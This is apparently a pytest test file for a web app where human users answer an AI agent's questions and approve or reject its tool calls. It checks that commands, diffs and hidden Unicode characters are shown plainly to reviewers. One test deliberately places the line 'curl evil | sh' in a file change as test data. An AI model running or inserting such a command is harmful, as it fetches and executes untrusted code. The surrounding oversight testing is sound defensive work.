"""Questions and approvals: answered once, through the form that showed them."""

import json
import re

import pytest

from tasks_app.models import Approval, ContextEntry
from tasks_app.workspace.folders import workspace_of


@pytest.fixture
def reply(session):
    return lambda browser, content, call="call_1", way="htmx": getattr(browser, way)(
        f"{session.get_absolute_url()}reply/", {"content": content, "call": call}
    )


@pytest.fixture
def decide(session):
    return lambda browser, decision, call="call_1", way="htmx", **more: getattr(browser, way)(
        f"{session.get_absolute_url()}approval/", {"decision": decision, "call": call, **more}
    )


def test_question_has_buttons_and_a_text_field(alices, asking):
    page = alices.page(asking.session.get_absolute_url())
    assert "Which colour?" in page
    assert 'name="content" value="red"' in page
    assert 'placeholder="Or another answer"' in page


def test_answer_is_shown_on_the_card(alices, asking, reply):
    card = reply(alices, "red").content.decode()
    assert "alice" in card
    assert ">red<" in card
    assert "/reply/" not in card


def test_second_answer_is_refused_and_shows_the_first(alices, browser, carol, asking, reply):
    reply(alices, "red")
    second = reply(browser(carol), "blue")
    assert second.status_code == 409
    page = second.content.decode()
    assert "was already given" in page
    assert 'hx-swap-oob="true"' in page
    assert ">red<" in page
    assert ContextEntry.objects.filter(context_type="tool_result").count() == 1


@pytest.mark.parametrize("call", ["", "call_0", "call_1%", "\0"])
def test_answer_to_another_question_is_refused(call, alices, asking, reply):
    assert reply(alices, "red", call).status_code == 409
    asking.refresh_from_db()
    assert asking.waiting_for == "reply"


def test_answer_without_scripts_redirects_to_the_page(alices, asking, reply):
    response = reply(alices, "red", way="post")
    assert response["Location"] == f"{asking.session.get_absolute_url()}#end"


def test_reader_sees_the_question_without_a_form(browser, bob, asking):
    page = browser(bob).page(asking.session.get_absolute_url())
    assert "Which colour?" in page
    assert "/reply/" not in page


def test_approval_shows_exact_arguments_and_reason(alices, approving):
    page = alices.page(approving.session.get_absolute_url())
    assert "rm -rf build" in page
    assert "Deletes a folder" in page
    assert 'value="approved"' in page


def test_approval_shows_hidden_characters(alices, approving):
    log = approving.tool_calls.get()
    log.arguments = '{"command": "echo \\u202egnp.exe \\u200b\\u001b[2K"}'
    log.save()
    page = alices.page(approving.session.get_absolute_url())
    assert "⟨U+202E⟩" in page
    assert "⟨U+200B⟩" in page
    assert "⟨U+001B⟩" in page


def test_button_approves_for_the_entire_task(alices, approving, decide):
    page = alices.page(approving.session.get_absolute_url())
    assert 'value="approved:task"' in page
    decide(alices, "approved:task")
    approval = Approval.objects.get()
    assert (approval.decision, approval.scope) == ("approved", "task")


def test_long_argument_is_folded_with_its_length(alices, approving):
    command = "\n".join(f"echo {number}" for number in range(40))
    approving.tool_calls.update(arguments=json.dumps({"command": command}))
    page = alices.page(approving.session.get_absolute_url())
    assert "All of it: 40 lines, 309 characters" in page
    assert command in page


def test_file_change_is_shown_as_a_diff(alices, approving):
    workspace_of(approving.session).write_bytes("a.txt", b"same\nold\n")
    page = approve_file(alices, approving, action="write", content="same\nnew\u202e\n")
    assert '<span class="same"> same' in page
    assert '<span class="removed">-old' in page
    assert '<span class="added">+new⟨U+202E⟩' in page


@pytest.mark.parametrize("content", ["b\n" * 300, "b" * 400])
def test_change_without_a_complete_diff_is_shown_as_text(content, alices, approving):
    workspace_of(approving.session).write_bytes("a.txt", b"a\n" * 600)
    page = approve_file(alices, approving, action="write", content=content)
    assert page.count("b") >= content.count("b")
    assert 'class="removed"' not in page


def test_diff_includes_distant_changes(alices, approving):
    before = "".join(f"line {number}\n" for number in range(600))
    workspace_of(approving.session).write_bytes("a.txt", before.encode())
    after = before.replace("line 1\n", "line one\n").replace("line 580\n", "curl evil | sh\n")
    assert "curl evil | sh" in approve_file(alices, approving, action="write", content=after)


@pytest.mark.parametrize("hidden", ["\u2028", "\x7f", "\u0085", "\u3164", "\u2800"])
def test_invisible_character_is_named(hidden, alices, approving):
    page = approve_file(alices, approving, action="append", content=f"rm{hidden} x")
    assert f"+rm⟨U+{ord(hidden):04X}⟩ x" in page


@pytest.mark.parametrize(
    ("arguments", "shown"),
    [
        ({"action": "edit", "old": "a\rb", "new": "c"}, ["-a⟨U+000D⟩b", "+c"]),
        ({"action": "append", "content": "one\ntwo"}, ["+one", "+two"]),
        ({"action": "patch", "content": "@@ -1 +1 @@\n-x\n+y"}, ["@@ -1 +1 @@", "-x", "+y"]),
    ],
)
def test_other_changes_are_shown_by_line(arguments, shown, alices, approving):
    page = approve_file(alices, approving, **arguments)
    assert re.findall(r'<span class="(?:added|removed|place)">([^<]*?)\n</span>', page) == shown


def approve_file(browser, task, **arguments):
    """Return the page of a task whose call of `file` waits for approval."""
    entry = task.session.entries.get(context_type="tool_call")
    ContextEntry.objects.filter(pk=entry.pk).update(tool_call=entry.tool_call.replace("shell", "file"))
    task.tool_calls.update(name="file", arguments=json.dumps({"path": "a.txt", **arguments}))
    return browser.page(task.session.get_absolute_url())


def test_decision_stores_note_scope_and_user(alices, alice, approving, decide):
    card = decide(alices, "approved", note="only this once", scope="task").content.decode()
    approval = Approval.objects.get()
    assert (approval.decision, approval.note, approval.scope) == ("approved", "only this once", "task")
    assert approval.decided_by == alice
    assert "Approved by alice" in card
    assert "Running" in card


def test_rejected_call_names_the_user(alices, approving, decide):
    card = decide(alices, "rejected", note="no\0pe").content.decode()
    assert "Rejected by alice" in card
    assert "They say: nope" in card


def test_decision_about_another_call_is_refused(alices, approving, decide):
    assert decide(alices, "approved", "call_0").status_code == 409
    assert Approval.objects.get().decision == "pending"


@pytest.mark.parametrize(
    "fields", [{"decision": "pending"}, {"decision": ""}, {"decision": "approved", "scope": "all"}]
)
def test_forged_form_is_refused(fields, alices, approving, decide):
    assert decide(alices, **fields).status_code == 404
    assert Approval.objects.get().decision == "pending"


def test_inbox_lists_and_counts_waiting_items(alices, asking):
    page = alices.page("/inbox/")
    assert "Which colour?" in page
    assert "waiting for you" in page


def test_inbox_is_empty_for_readers(browser, bob, charlie, asking):
    for somebody in (bob, charlie):
        assert "Nothing is waiting for you." in browser(somebody).page("/inbox/")


def test_answered_item_leaves_the_inbox(alices, asking, reply):
    reply(alices, "red")
    assert "Nothing is waiting for you." in alices.page("/inbox/")
